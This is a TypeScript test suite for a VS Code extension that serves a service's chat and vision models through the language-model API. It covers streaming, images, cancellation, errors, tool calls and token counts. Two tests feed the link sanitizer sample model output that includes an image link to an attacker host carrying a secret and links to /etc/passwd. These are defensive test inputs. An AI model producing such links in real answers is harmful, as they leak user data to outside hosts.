// The service's models in VS Code's language-model API (vendor maas), as any extension uses them through vscode.lm:
// found by selectChatModels, streaming an answer through the extension's client, an image reaching the vision model,
// cancellation closing the request, the service's errors explained in the chat view's words, token counts, the
// model list following the settings, and the switch that turns the native surfaces off. The provider API works with
// chat.disableAIFeatures on (docs/testing.md, VS Code's own chat), as the host harness runs.
import { waitFor } from '../harness/waitFor';
import assert from 'node:assert/strict';
import { PNG } from 'pngjs';
import * as vscode from 'vscode';
import { setSetting } from '../harness/hostSettings';
import { CHAT_ROUTE, chatRequests, type LoggedChatRequest } from '../harness/requestLog';
import { api, hook, service } from './hostService';
import { recordingChatStream } from './featureHelpers';

async function maasModels(): Promise<vscode.LanguageModelChat[]> {
  return vscode.lm.selectChatModels({ vendor: 'maas' });
}

async function modelsWhere(ok: (ids: readonly string[]) => boolean, what: string): Promise<vscode.LanguageModelChat[]> {
  return waitFor(
    async () => {
      const models = await maasModels();
      return ok(models.map((m) => m.id)) ? models : undefined;
    },
    { what, timeoutMs: 10_000 },
  );
}

async function model(id: string): Promise<vscode.LanguageModelChat> {
  const found = (await modelsWhere((ids) => ids.includes(id), `the model ${id}`)).find((m) => m.id === id);
  assert.ok(found);
  return found;
}

/** VS Code 1.139's thinking part class (newer than the manifest's @types/vscode 1.104). */
function thinkingPart(): new (value: string) => { value: string | string[] } {
  const found = (vscode as unknown as { LanguageModelThinkingPart?: new (value: string) => { value: string | string[] } }).LanguageModelThinkingPart;
  assert.ok(found, 'VS Code 1.139 has thinking parts');
  return found;
}

/** Whether a model declares image input (`capabilities`, newer than the manifest's @types/vscode 1.104). */
function imageInput(chat: vscode.LanguageModelChat): boolean | undefined {
  return (chat as unknown as { capabilities?: { supportsImageToText?: boolean } }).capabilities?.supportsImageToText;
}

async function answerText(response: vscode.LanguageModelChatResponse): Promise<string> {
  let text = '';
  for await (const part of response.text) text += part;
  return text;
}

async function loggedChats(): Promise<LoggedChatRequest[]> {
  return chatRequests(service.baseUrl);
}

/** A PNG of that size as an image part of a message (LanguageModelDataPart, not in the typed API this build targets). */
function imagePart(width: number, height: number): vscode.LanguageModelTextPart {
  const DataPart = (vscode as unknown as { LanguageModelDataPart: { image(data: Uint8Array, mime: string): unknown } }).LanguageModelDataPart;
  return DataPart.image(png(width, height), 'image/png') as vscode.LanguageModelTextPart;
}

function png(width: number, height: number): Uint8Array {
  const image = new PNG({ width, height });
  image.data.fill(200);
  return new Uint8Array(PNG.sync.write(image));
}

describe("the service's models in vscode.lm", () => {
  beforeEach(async () => {
    await (await hook()).apiKey.set(service.key);
    await api('/_local/reset', {});
  });

  it('selectChatModels finds the chat and vision models with honest limits and capabilities', async () => {
    const models = await modelsWhere((ids) => ids.includes('svc_llm') && ids.includes('svc_vl'), 'both models');
    const llm = models.find((m) => m.id === 'svc_llm');
    assert.equal(llm?.vendor, 'maas');
    assert.equal(llm?.maxInputTokens, 32_768);
    assert.equal((await model('svc_vl')).name, 'svc_vl');
  });

  it('streams an answer through the extension client, with the conversation as the service takes it', async () => {
    const llm = await model('svc_llm');
    const response = await llm.sendRequest([
      vscode.LanguageModelChatMessage.User('You answer briefly.'),
      vscode.LanguageModelChatMessage.User('What does the provider do?'),
    ]);
    const text = await answerText(response);
    assert.match(text, /What does the provider do\?/, 'the local responder quotes the question');
    const request = (await loggedChats()).pop();
    assert.equal(request?.body.model, 'svc_llm');
    // Two user messages in a row become one, so the roles alternate as the service requires.
    assert.deepEqual(
      request?.body.messages.map((m) => m.role),
      ['user'],
    );
  });

  it("hands VS Code's chat Markdown by the chat's link rule: images as links, refused links as text, where links go shown", async () => {
    // The local service streams this one token at a time, so every link arrives cut into pieces.
    await api('/_local/next-answer', {
      text:
        'Look: ![chart](https://attacker.invalid/c.png?d=secret) [the docs](https://docs.example/a), [a file](file:///etc/passwd), ' +
        '[mail](mailto:a@example.com?subject=Hi&attach=/etc/passwd).\n\n```md\n![kept](https://attacker.invalid/k.png)\n```\n',
    });
    const response = await (await model('svc_llm')).sendRequest([vscode.LanguageModelChatMessage.User('Where are the docs?')]);
    assert.equal(
      await answerText(response),
      'Look: [chart (attacker.invalid)](<https://attacker.invalid/c.png?d=secret>) [the docs (docs.example)](<https://docs.example/a>), ' +
        'a file, [mail (a@example.com)](<mailto:a@example.com?subject=Hi>).\n\n```md\n![kept](https://attacker.invalid/k.png)\n```\n',
    );
  });

  it("@maas hands VS Code's chat its answer by the same rule, cut into pieces as it streams", async () => {
    await api('/_local/next-answer', {
      text: 'See ![chart](https://attacker.invalid/c.png) and [the docs](https://docs.example/a); not [this](vscode:extension/x.y).\n',
    });
    const handler = (await hook()).participantHandler();
    assert.ok(handler, '@maas is registered');
    const { stream, pieces } = recordingChatStream();
    const request = { prompt: 'Where are the docs?', references: [], toolReferences: [], model: await model('svc_llm') } as unknown as vscode.ChatRequest;
    await handler(request, { history: [] }, stream, new vscode.CancellationTokenSource().token);
    assert.equal(
      pieces.join(''),
      'See [chart (attacker.invalid)](<https://attacker.invalid/c.png>) and [the docs (docs.example)](<https://docs.example/a>); not this.\n',
    );
    assert.ok(pieces.length > 1, 'the answer streamed in pieces');
    assert.ok(
      pieces.every((piece) => !piece.includes('![')),
      'no piece shows the start of an image',
    );
  });

  it('an image part reaches the vision model as a data: URL', async () => {
    const vl = await model('svc_vl');
    const message = vscode.LanguageModelChatMessage.User([new vscode.LanguageModelTextPart('What is in this picture?'), imagePart(40, 30)]);
    const text = await answerText(await vl.sendRequest([message]));
    assert.match(text, /PNG, 40\s*×\s*30/);
    const content = (await loggedChats()).pop()?.body.messages[0]?.content;
    const image = Array.isArray(content) ? content.find((part) => part.type === 'image_url') : undefined;
    assert.match(image?.image_url.url ?? '', /^data:image\/png;base64,/);
  });

  it('cancelling through the token closes the request', async () => {
    await api('/_local/next-answer', { chunks: 400, chunkText: 'word ' });
    const llm = await model('svc_llm');
    const source = new vscode.CancellationTokenSource();
    const response = await llm.sendRequest([vscode.LanguageModelChatMessage.User('Talk for a long time.')], {}, source.token);
    let received = '';
    for await (const part of response.text) {
      received += part;
      if (received.length > 20) source.cancel();
    }
    assert.ok(received.length < 400 * 5, 'the stream stopped early');
    const closed = await waitFor(async () => (await loggedChats()).find((r) => r.clientClosed), {
      what: 'the service to see the request closed',
      timeoutMs: 10_000,
    });
    assert.equal(closed.completed, false);
  });

  it("the service's errors arrive with the chat view's explanation and the service's own message", async () => {
    const llm = await model('svc_llm');
    const h = await hook();
    await h.apiKey.set('sk-host-wrong-key-000000');
    try {
      await assert.rejects(
        async () => answerText(await llm.sendRequest([vscode.LanguageModelChatMessage.User('Hello?')])),
        (error: Error) => {
          assert.match(error.message, /API key is not recognised/);
          assert.match(error.message, /apikey不存在/);
          assert.ok(!error.message.includes('sk-host-wrong-key'), 'no key in the message');
          return true;
        },
      );
    } finally {
      await h.apiKey.set(service.key);
    }
    // One failing answer for the one request (a 400 is not retried): a fault left pending would fail the next test's.
    const fault = await api<{ id: string }>('/_local/faults', {
      route: CHAT_ROUTE,
      port: 'any',
      count: 1,
      status: 400,
      body: { error: { message: '参数错误:messages 不能为空' } },
    });
    await assert.rejects(
      async () => answerText(await llm.sendRequest([vscode.LanguageModelChatMessage.User('Hello?')])),
      (error: Error) => /参数错误:messages 不能为空/.test(error.message),
    );
    assert.equal((await api<{ remaining: number }>(`/_local/faults/${fault.id}`)).remaining, 0, 'the fault was used, none left pending');
  });

  it('a tool call round trip: the call part out, the result in, then the final text', async () => {
    const llm = await model('svc_llm');
    const tools: vscode.LanguageModelChatTool[] = [
      {
        name: 'get_weather',
        description: 'The weather of a city.',
        inputSchema: { type: 'object', properties: { city: { type: 'string' } }, required: ['city'] },
      },
    ];
    const question = vscode.LanguageModelChatMessage.User('Please use get_weather for Lima.');
    const first = await llm.sendRequest([question], { tools });
    const calls: vscode.LanguageModelToolCallPart[] = [];
    for await (const part of first.stream) if (part instanceof vscode.LanguageModelToolCallPart) calls.push(part);
    assert.equal(calls.length, 1);
    assert.equal(calls[0]?.name, 'get_weather');
    assert.deepEqual(calls[0]?.input, { city: 'Please use get_weather for Lima.' });
    const sent = (await loggedChats()).pop()?.body;
    assert.deepEqual(
      sent?.tools?.map((t) => [t.type, t.type === 'function' ? t.function.name : '']),
      [['function', 'get_weather']],
    );
    const call = calls[0] as vscode.LanguageModelToolCallPart;
    const second = await llm.sendRequest(
      [
        question,
        vscode.LanguageModelChatMessage.Assistant([call]),
        vscode.LanguageModelChatMessage.User([new vscode.LanguageModelToolResultPart(call.callId, [new vscode.LanguageModelTextPart('Cloudy, 18 degrees.')])]),
      ],
      { tools },
    );
    assert.match(await answerText(second), /The tool get_weather returned: Cloudy, 18 degrees\./);
    const wire = (await loggedChats()).pop()?.body.messages ?? [];
    assert.deepEqual(
      wire.map((m) => m.role),
      ['user', 'assistant', 'tool'],
    );
    assert.equal(wire[2]?.tool_call_id, call.callId);
  });

  it("counts tokens locally by the service's rule: a word, a CJK character or a symbol each, 256 per image", async () => {
    const llm = await model('svc_llm');
    assert.equal(await llm.countTokens('abcdefgh'), 1);
    assert.equal(await llm.countTokens('你好世界'), 4);
    assert.equal(await llm.countTokens('x = f(1);'), 7);
    assert.equal(await llm.countTokens(vscode.LanguageModelChatMessage.User('abcd 你好')), 1 + 2);
    const withImage = vscode.LanguageModelChatMessage.User([new vscode.LanguageModelTextPart('look'), imagePart(4, 4)]);
    assert.equal(await llm.countTokens(withImage), 1 + 256);
  });

  it('the reasoning arrives as thinking parts, never in the answer text, and the usage as a "usage" data part', async () => {
    const llm = await model('svc_llm');
    const response = await llm.sendRequest([vscode.LanguageModelChatMessage.User('Please think before you answer: what is a moving average?')]);

    let thinking = '';
    let answer = '';
    let usage: unknown;
    for await (const part of response.stream) {
      if (part instanceof vscode.LanguageModelTextPart) answer += part.value;
      else if (part instanceof thinkingPart()) thinking += ([] as string[]).concat(part.value).join('');
      else if ((part as { mimeType?: string }).mimeType === 'usage')
        usage = JSON.parse(new TextDecoder().decode((part as unknown as { data: Uint8Array }).data));
    }
    assert.ok(thinking.length > 20, `the reasoning came as thinking: ${thinking}`);
    assert.doesNotMatch(answer, /<\/?think>/);
    assert.ok(!answer.includes(thinking.trim().slice(0, 30)), 'no reasoning in the answer');
    const logged = (await loggedChats()).pop();
    assert.ok(logged);
    const counted = usage as { prompt_tokens: number; completion_tokens: number; total_tokens: number };
    assert.ok(counted.prompt_tokens > 0 && counted.completion_tokens > 0);
    assert.equal(counted.total_tokens, counted.prompt_tokens + counted.completion_tokens);
  });

  it('an image asked about with svc_llm is described by svc_vl first; the marked description goes with the question to svc_llm', async () => {
    const llm = await model('svc_llm');
    assert.equal(imageInput(llm), true, 'svc_llm declares images, since they work');
    const message = vscode.LanguageModelChatMessage.User([new vscode.LanguageModelTextPart('What is in this screenshot?'), imagePart(40, 30)]);
    const response = await llm.sendRequest([message]);
    let thinking = '';
    let answer = '';
    for await (const part of response.stream) {
      if (part instanceof vscode.LanguageModelTextPart) answer += part.value;
      else if (part instanceof thinkingPart()) thinking += ([] as string[]).concat(part.value).join('');
    }
    assert.ok(answer.length > 0);
    const [describe, ask] = (await loggedChats()).slice(-2);
    assert.equal(describe?.body.model, 'svc_vl');
    assert.ok(JSON.stringify(describe?.body.messages).includes('data:image/png;base64,'));
    assert.equal(ask?.body.model, 'svc_llm');
    const sent = String(ask?.body.messages.at(-1)?.content);
    assert.match(
      sent,
      /^What is in this screenshot\?\n\n\[Description of the attached image\(s\) by svc_vl, for a model that cannot see images\]\n[\s\S]*Image 1: PNG, 40\s*×\s*30/,
    );
    assert.match(thinking, /svc_vl described the attached image for svc_llm/);
    // Asked again with the same image in the history, it is not described a second time.
    await answerText(
      await llm.sendRequest([message, vscode.LanguageModelChatMessage.Assistant(answer), vscode.LanguageModelChatMessage.User('And its size?')]),
    );
    const after = await loggedChats();
    assert.deepEqual(
      after.slice(-1).map((r) => r.body.model),
      ['svc_llm'],
    );
    assert.equal(after.filter((r) => r.body.model === 'svc_vl').length, 1);
  });

  it('maas.images.withTextModel: visionModel sends the question to svc_vl with a note; refuse says to pick the vision model', async () => {
    const llm = await model('svc_llm');
    const message = vscode.LanguageModelChatMessage.User([new vscode.LanguageModelTextPart('And this one?'), imagePart(8, 6)]);
    try {
      await setSetting('images.withTextModel', 'visionModel');
      const text = await answerText(await llm.sendRequest([message]));
      assert.match(text, /^\*svc_llm does not take images: svc_vl answered this question\.\*/);
      assert.equal((await loggedChats()).pop()?.body.model, 'svc_vl');
      await setSetting('images.withTextModel', 'refuse');
      // The chat view's words for the same refusal (errors/errorMessages.ts), through the request plan's refusal.
      await assert.rejects(
        answerText(await llm.sendRequest([message])),
        /svc_llm does not take images: maas\.images\.withTextModel is off, so images are not described for a language model\. Pick the vision model/,
      );
      await modelsWhere((ids) => ids.includes('svc_llm'), 'the models after the change');
      assert.equal(imageInput(await model('svc_llm')), false, 'with images off, svc_llm no longer declares them');
    } finally {
      await setSetting('images.withTextModel', undefined);
    }
  });

  it('the model list follows maas.models.extra, and maas.nativeChat.enabled turns it off and on', async () => {
    try {
      await setSetting('models.extra', ['svc_extra']);
      await modelsWhere((ids) => ids.includes('svc_extra'), 'the extra model');
      await setSetting('nativeChat.enabled', false);
      await modelsWhere((ids) => ids.length === 0, 'no models while the switch is off');
      await setSetting('nativeChat.enabled', undefined);
      await modelsWhere((ids) => ids.includes('svc_llm'), 'the models back');
    } finally {
      await setSetting('models.extra', undefined);
      await setSetting('nativeChat.enabled', undefined);
    }
  });
});
